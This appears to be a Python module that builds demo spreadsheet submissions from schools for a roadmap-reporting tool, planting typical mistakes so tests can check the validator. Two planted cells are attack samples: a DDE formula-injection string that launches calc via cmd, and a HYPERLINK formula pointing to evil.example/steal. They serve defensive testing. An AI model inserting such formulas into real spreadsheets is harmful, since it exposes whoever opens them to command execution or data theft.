"""Filled sample submissions for the demo district, with the mistakes schools really make.

Eleven of the twelve schools answer (one of them twice, the later file corrected), one sends
a self-made table instead of the template, and several files carry typical mistakes. Each
planted mistake is listed with its sheet and cell, so tests can hold ``check`` to them.
"""

from __future__ import annotations

import os
import random
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from pathlib import Path

from .forms import template_filename
from .forms.layout import (
    COL,
    HEADER_ROW,
    IND_COL,
    INDICATORS_SHEET,
    ITEMS_SHEET,
    TemplateInfo,
    template_id,
    template_workbook,
)
from .master import roadmap_fingerprint
from .model import IndicatorKind, Roadmap, School
from .sheets import Cell, Column, Sheet, Workbook, write_workbook
from .sheets.spec import column_letter

AS_OF = date(2022, 6, 30)  # the demo reports on the first half of 2022


def save_keeping_date(wb, path: Path, saved_at: datetime | None) -> None:
    """Save an openpyxl workbook like ``wb.save``, but keep ``saved_at`` as the document's
    "modified" date (openpyxl's own save always stamps the current time): a sample file looks
    saved by Excel on the day the story says."""
    from zipfile import ZIP_DEFLATED, ZipFile

    from openpyxl.writer.excel import ExcelWriter

    if saved_at is None:
        wb.save(path)
        return
    wb.properties.modified = saved_at
    archive = ZipFile(path, "w", ZIP_DEFLATED, allowZip64=True)
    ExcelWriter(wb, archive).save()


@dataclass
class Planted:
    """A mistake put into a sample file on purpose: ``check`` must report this cell."""

    file: str
    sheet: str
    cell: str
    what: str


@dataclass
class Profile:
    code: str
    fmt: str
    done_share: float
    saved: datetime
    own_events: int = 0
    mistakes: str | None = None  # which planted mistakes (a demo school's code); default: its own code


PROFILES = [
    Profile("G02", "ods", 0.9, datetime(2022, 6, 27, 15, 10), own_events=1),
    Profile("L03", "xlsx", 0.7, datetime(2022, 6, 28, 9, 40)),
    Profile("S05", "ods", 0.3, datetime(2022, 6, 20, 11, 5)),  # the first, incomplete file
    Profile("S05", "xlsx", 0.8, datetime(2022, 6, 29, 16, 45)),  # ... replaced by a corrected one
    Profile("S09", "xlsx", 0.2, datetime(2022, 6, 30, 17, 55)),
    Profile("S10", "xlsx", 0.85, datetime(2022, 6, 24, 10, 0), own_events=2),
    Profile("S11", "ods", 0.6, datetime(2022, 6, 29, 12, 20)),
    Profile("S12", "xlsx", 0.65, datetime(2022, 6, 28, 14, 0)),
    Profile("S13", "ods", 0.5, datetime(2022, 6, 27, 8, 30)),
    Profile("S14", "xlsx", 0.75, datetime(2022, 6, 26, 13, 15)),
    Profile("L15", "ods", 0.8, datetime(2022, 6, 25, 11, 50), own_events=1),
    Profile("S16", "xlsx", 0.7, datetime(2022, 6, 29, 10, 25)),
]


@dataclass
class DemoPeriod:
    """One reporting period of the demo district: when it is consolidated and how schools answer."""

    label: str
    as_of: date
    profiles: list[Profile]
    plant: bool = True  # typical mistakes and a self-made table, as in a first collection

    def shifted(self, moment: datetime) -> datetime:
        return moment + (self.as_of - AS_OF)


def _later(profile: Profile, done_share: float) -> Profile:
    return Profile(profile.code, profile.fmt, done_share, profile.saved + timedelta(days=183), profile.own_events)


FIRST = DemoPeriod("I полугодие 2022 г.", AS_OF, PROFILES)
# the second half-year: most schools catch up, Школа № 11 falls behind, Школа № 13 sends nothing
SECOND = DemoPeriod("II полугодие 2022 г.", date(2022, 12, 30), [
    _later(p, 0.35 if p.code == "S11" else min(0.95, p.done_share + 0.15))
    for p in PROFILES if p.code != "S13" and not (p.code == "S05" and p.fmt == "ods")
], plant=False)
FOREIGN_FILE = "Отчёт_школы_17_по_дорожной_карте.xlsx"  # a self-made table, not the template
RESULTS = [
    "Мероприятие проведено, приняли участие обучающиеся 5–11 классов",
    "Проведено в соответствии с планом, информация размещена на сайте школы",
    "Организовано участие обучающихся, подготовлена справка",
    "Проведены классные часы и родительские собрания",
    "Приказ по школе издан, назначены ответственные",
]


def write_demo_submissions(roadmap: Roadmap, outdir: Path,
                           period: DemoPeriod = FIRST) -> tuple[list[Path], list[Planted]]:
    """Write the sample submissions of ``period`` into ``outdir``; returns the files and the planted mistakes."""
    outdir.mkdir(parents=True, exist_ok=True)
    fingerprint = roadmap_fingerprint(roadmap)
    schools = {s.code: s for s in roadmap.schools}
    files, planted = [], []
    seen: set[str] = set()
    for profile in period.profiles:
        school = schools[profile.code]
        name = template_filename(school, roadmap.reporting_period, profile.fmt)
        if profile.code in seen:
            name = name.replace(f".{profile.fmt}", f"_исправленный.{profile.fmt}")
        seen.add(profile.code)
        path, mistakes = write_sample_submission(roadmap, fingerprint, school, profile, outdir / name, period)
        files.append(path)
        planted += mistakes
    if not period.plant:
        return files, planted
    foreign = Workbook([Sheet("Лист1", [Column("№", 1.5), Column("Мероприятие", 8), Column("Выполнено", 3)],
                              [[Cell("№", "header"), Cell("Мероприятие", "header"), Cell("Выполнено", "header")],
                               [Cell("1"), Cell("Единый урок безопасности в сети Интернет"), Cell("да")]])])
    files.append(write_workbook(foreign, outdir / FOREIGN_FILE))
    return files, planted


def write_sample_submission(roadmap: Roadmap, fingerprint: str, school: School, profile: Profile,
                            path: Path, period: DemoPeriod = FIRST) -> tuple[Path, list[Planted]]:
    """One school's filled template as ``profile`` describes it (also used to build large districts)."""
    info = TemplateInfo(template_id(fingerprint, school, roadmap.reporting_period), fingerprint, school,
                        roadmap.reporting_period, period.shifted(datetime(2022, 6, 1, 9, 0)))
    book = template_workbook(roadmap, info)
    book.saved_at = profile.saved
    rng = random.Random(f"{profile.code}-{profile.fmt}" + ("" if period is FIRST else f"-{period.label}"))
    _answer_items(book, roadmap, profile, rng, period.as_of)
    _answer_indicators(book, roadmap, school, rng)
    kind = (profile.code if profile.mistakes is None else profile.mistakes) if period.plant else ""
    mistakes = _plant(book, kind, path.name)
    path = write_workbook(book, path)
    if kind == "S16":
        mistakes.append(_plant_formula(path, book))
    stamp = profile.saved.timestamp()
    os.utime(path, (stamp, stamp))
    return path, mistakes


def _rows(sheet: Sheet) -> dict[str, int]:
    """Item key -> 0-based row index in a template sheet."""
    return {row[0].value: n for n, row in enumerate(sheet.rows) if n >= HEADER_ROW and row and row[0].value}


def _set(sheet: Sheet, row: int, column: str, value) -> None:
    sheet.rows[row][COL[column]] = Cell(value, "input_date" if column == "date_done" else "input", locked=False)


def _answer_items(book: Workbook, roadmap: Roadmap, profile: Profile, rng: random.Random, as_of: date) -> None:
    sheet = book.sheet(ITEMS_SHEET)
    items = {item.key: item for item in roadmap.items}
    roles = roadmap.school_roles
    for key, row in _rows(sheet).items():
        if key not in items:
            continue
        item = items[key]
        deadline = item.deadline
        due = deadline.end is not None and deadline.end <= as_of
        started = deadline.start is None or deadline.start <= as_of
        if due:
            status = "выполнено" if rng.random() < profile.done_share else rng.choice(["не выполнено", "выполняется"])
        elif started:
            status = "выполнено" if rng.random() < profile.done_share / 3 else "выполняется"
        else:
            status = "не начато"
        _set(sheet, row, "status", status)
        _set(sheet, row, "executor", rng.choice(roles[1:6]))
        if status == "выполнено":
            latest = min(deadline.end or as_of, as_of)
            earliest = max(deadline.start or latest - timedelta(days=60), roadmap.period_start)
            span = max((latest - earliest).days, 0)
            _set(sheet, row, "date_done", earliest + timedelta(days=rng.randint(0, span)))
            _set(sheet, row, "result", rng.choice(RESULTS))
            if rng.random() < 0.5:
                _set(sheet, row, "link", f"https://school{profile.code[1:]}.sarov.ru/news/{rng.randint(100, 999)}")
        elif status == "не выполнено":
            _set(sheet, row, "comment", "Перенесено в связи с ограничительными мерами")
    own_rows = [row for key, row in _rows(sheet).items() if str(key).startswith("+")]
    vocabulary = roadmap.deadline_vocabulary
    for n in range(profile.own_events):
        row = own_rows[(n * 5 + 2) % len(own_rows)]
        _set(sheet, row, "event", ["Школьный фестиваль «Мы — вместе!»", "Акция «Бессмертный полк» в школе",
                                   "Неделя профилактики «Здоровое поколение»"][n % 3])
        _set(sheet, row, "deadline", vocabulary[(n * 7) % len(vocabulary)])
        _set(sheet, row, "result_expected", "Вовлечение обучающихся и родителей")
        _set(sheet, row, "status", "выполнено")
        _set(sheet, row, "date_done", date(2022, 4, 12 + n))
        _set(sheet, row, "executor", roles[2])
        _set(sheet, row, "result", "Приняли участие 240 обучающихся")


def _answer_indicators(book: Workbook, roadmap: Roadmap, school: School, rng: random.Random) -> None:
    sheet = book.sheet(INDICATORS_SHEET)
    col = IND_COL["value"]
    for index, row in enumerate(sheet.rows):
        code = row[0].value if row else None
        indicator = next((i for i in roadmap.indicators if i.code == code), None)
        if indicator is None:
            continue
        if indicator.kind == IndicatorKind.YESNO:
            value = "да" if rng.random() < 0.8 else "нет"
        elif indicator.kind == IndicatorKind.PERCENT:
            value = round(rng.uniform(35, 95), 1)
        else:
            high = indicator.maximum or 100
            value = rng.randint(0, int(min(high, 1 if high <= 5 else max(1, (school.students or 500) // 4))))
        sheet.rows[index][col] = Cell(value, "input", locked=False)


def _first(sheet: Sheet, status: str | None = None, own: bool = False) -> int:
    for key, row in _rows(sheet).items():
        if str(key).startswith("+") != own:
            continue
        if status is None or sheet.rows[row][COL["status"]].value == status:
            return row
    raise LookupError(status)


def _a1(row: int, column: str) -> str:
    return f"{column_letter(COL[column])}{row + 1}"


def _plant(book: Workbook, kind: str, name: str) -> list[Planted]:
    sheet = book.sheet(ITEMS_SHEET)
    out: list[Planted] = []
    if kind == "L03":
        row = _first(sheet, "выполняется")
        _set(sheet, row, "status", "сделали")
        out.append(Planted(name, ITEMS_SHEET, _a1(row, "status"), "недопустимый статус"))
        row = _first(sheet, "выполнено")
        _set(sheet, row, "date_done", date(2023, 3, 15))
        out.append(Planted(name, ITEMS_SHEET, _a1(row, "date_done"), "дата вне периода"))
    elif kind == "S11":
        row = _first(sheet, "выполнено")
        _set(sheet, row, "link", "сайт школы")
        out.append(Planted(name, ITEMS_SHEET, _a1(row, "link"), "не ссылка"))
        row = [r for k, r in _rows(sheet).items() if sheet.rows[r][COL["status"]].value == "выполнено"][1]
        sheet.rows[row][COL["date_done"]] = Cell(None, "input_date", locked=False)
        sheet.rows[row][COL["result"]] = Cell(None, "input", locked=False)
        out.append(Planted(name, ITEMS_SHEET, _a1(row, "date_done"), "выполнено без даты и результата"))
    elif kind == "S12":
        row = _first(sheet)
        event = sheet.rows[row][COL["event"]].value
        sheet.rows[row][COL["event"]] = Cell(event + " (в школе)", "text")
        out.append(Planted(name, ITEMS_SHEET, _a1(row, "event"), "изменена защищённая ячейка"))
        row = _first(sheet, "выполняется")
        _set(sheet, row, "executor", "Завуч")
        out.append(Planted(name, ITEMS_SHEET, _a1(row, "executor"), "исполнитель не из списка"))
    elif kind == "S14":
        indicators = book.sheet(INDICATORS_SHEET)
        col = IND_COL["value"]
        indicators.rows[2][col] = Cell(120, "input", locked=False)  # П1, a percent
        out.append(Planted(name, INDICATORS_SHEET, f"{column_letter(col)}3", "процент больше 100"))
        indicators.rows[4][col] = Cell("много", "input", locked=False)  # П3, a count
        out.append(Planted(name, INDICATORS_SHEET, f"{column_letter(col)}5", "не число"))
    elif kind == "L15":
        row = _first(sheet, own=True)
        while sheet.rows[row][COL["event"]].value:
            row += 1
        _set(sheet, row, "event", "Экологический субботник")
        _set(sheet, row, "deadline", "весной")
        _set(sheet, row, "status", "выполнено")
        _set(sheet, row, "date_done", date(2022, 4, 23))
        out.append(Planted(name, ITEMS_SHEET, _a1(row, "deadline"), "срок не из списка"))
    elif kind == "S16":
        row = _first(sheet, "не выполнено") if any(
            r[COL["status"]].value == "не выполнено" for r in sheet.rows if len(r) > COL["status"]) else _first(sheet)
        _set(sheet, row, "comment", "=cmd|' /C calc'!A0")  # typed as text: data, reported nowhere
    return out


def _plant_formula(path: Path, book: Workbook) -> Planted:
    """A real formula cell, as Excel would store =HYPERLINK typed by a user."""
    from openpyxl import load_workbook

    sheet = book.sheet(ITEMS_SHEET)
    row = _first(sheet, "выполнено")
    cell = _a1(row, "result")
    wb = load_workbook(path)
    wb[ITEMS_SHEET][cell] = '=HYPERLINK("http://evil.example/steal","Отчёт о мероприятии")'
    save_keeping_date(wb, path, book.saved_at)
    return Planted(path.name, ITEMS_SHEET, cell, "формула")
